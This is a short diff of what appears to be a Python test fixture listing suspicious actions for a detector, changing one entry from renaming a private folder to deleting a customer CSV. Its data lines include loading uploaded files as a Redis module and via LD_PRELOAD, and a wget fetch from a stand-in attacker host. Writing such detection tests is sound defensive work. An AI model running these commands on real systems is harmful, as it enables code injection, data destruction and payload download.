@@ -68,7 +68,7 @@ ACTS: tuple[Act, ...] = (
     Act("module loaded by redis", "worker", "out = redis('MODULE', 'LOAD', '/data/uploads/m.jpg')", ("/data/uploads/m.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/m.jpg")),
     Act("library from an upload in a job's tool", "shell", "LD_PRELOAD=/data/uploads/p.jpg date +%s", ("/data/uploads/p.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/p.jpg")),
     Act("folder that nobody reads, by the worker", "worker", "out = open('/data/private/customers.csv').read()", ("/data/private/customers.csv",)),
-    Act("customers removed by the worker", "worker", "os.rename('/data/private', '/data/.old')", ("/data/private", "/data/.old")),
+    Act("customers removed by the worker", "worker", "os.unlink('/data/private/customers.csv')", ("/data/private",)),
     # programs
     Act("tool never used: wget", "shell", f"wget -qO /tmp/w http://{ATTACKER}/w", ("wget",)),
     Act("tool never used: perl", "shell", "perl -e 'print 1'", ("perl",)),
